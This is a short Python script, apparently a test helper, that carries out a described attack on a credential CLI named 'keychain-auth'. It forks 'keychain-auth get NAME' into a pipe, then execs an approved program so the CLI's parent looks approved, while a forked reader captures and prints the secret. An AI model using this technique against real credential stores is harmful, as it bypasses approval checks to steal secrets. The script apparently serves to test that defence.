"""The attack of a program that starts `keychain-auth get` and then becomes an approved
program, so that the CLI's parent looks approved while the pipe the value goes to is
the attacker's. Standard library only.

Usage: exec-after-fork.py KEYCHAIN_AUTH NAME PROGRAM [ARG...] [--keep]
Creates a pipe, forks `KEYCHAIN_AUTH get NAME` with its standard output on the pipe,
forks a reader that prints, as one JSON line, what came through the pipe, and execs
PROGRAM ARG... With --keep the pipe's reading end survives the exec (it is made
inheritable); without, the exec closes it in PROGRAM. The reader's line is the only
line this writes.
"""

import json
import os
import sys

args = sys.argv[1:]
keep = "--keep" in args
args = [a for a in args if a != "--keep"]
ka, name, program = args[0], args[1], args[2:]
r, w = os.pipe()  # both close-on-exec (PEP 446)
if keep:
    os.set_inheritable(r, True)
cli = os.fork()
if cli == 0:
    os.dup2(w, 1)
    os.execv(ka, [ka, "get", name])
reader = os.fork()
if reader == 0:
    os.close(w)
    got = b""
    while True:
        chunk = os.read(r, 65536)
        if not chunk:
            break
        got += chunk
    sys.stdout.write(json.dumps({"read": got.decode("utf-8", "replace")}) + "\n")
    sys.stdout.flush()
    os._exit(0)
os.close(w)
os.execv(program[0], program)
